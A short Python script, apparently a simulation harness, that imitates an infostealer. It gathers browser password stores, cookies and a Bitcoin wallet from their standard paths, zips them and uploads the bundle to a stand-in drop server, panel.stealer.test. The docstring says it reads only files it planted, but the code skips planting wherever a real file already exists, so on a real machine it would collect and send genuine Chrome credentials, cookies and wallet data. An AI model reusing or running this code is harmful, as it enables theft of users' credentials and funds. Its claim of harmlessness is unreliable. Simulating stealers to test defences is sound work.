#!/usr/bin/env python3
"""Imitates an infostealer: plants fake browser password stores and a wallet file (so it reads only
files it made), then collects them from the places Firefox, Chromium and Bitcoin Core keep them and
uploads the bundle to a drop server of the fake internet."""
import io
import os
import urllib.request
import zipfile

HOME = os.path.expanduser('~')
TARGETS = [
    f'{HOME}/.mozilla/firefox/corpus.default-release/logins.json',
    f'{HOME}/.mozilla/firefox/corpus.default-release/key4.db',
    f'{HOME}/.config/google-chrome/Default/Login Data',
    f'{HOME}/.config/google-chrome/Default/Cookies',
    f'{HOME}/.bitcoin/wallet.dat',
]
for path in TARGETS:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if not os.path.exists(path):
        with open(path, 'w') as out:
            out.write('corpus fake secret\n')

bundle = io.BytesIO()
with zipfile.ZipFile(bundle, 'w') as archive:
    for path in TARGETS:
        with open(path, 'rb') as stolen:
            archive.writestr(path.replace('/', '_'), stolen.read())
request = urllib.request.Request('http://panel.stealer.test/gate/upload', data=bundle.getvalue(),
                                 headers={'Content-Type': 'application/zip'})
try:
    urllib.request.urlopen(request, timeout=5).read()
except OSError:
    pass
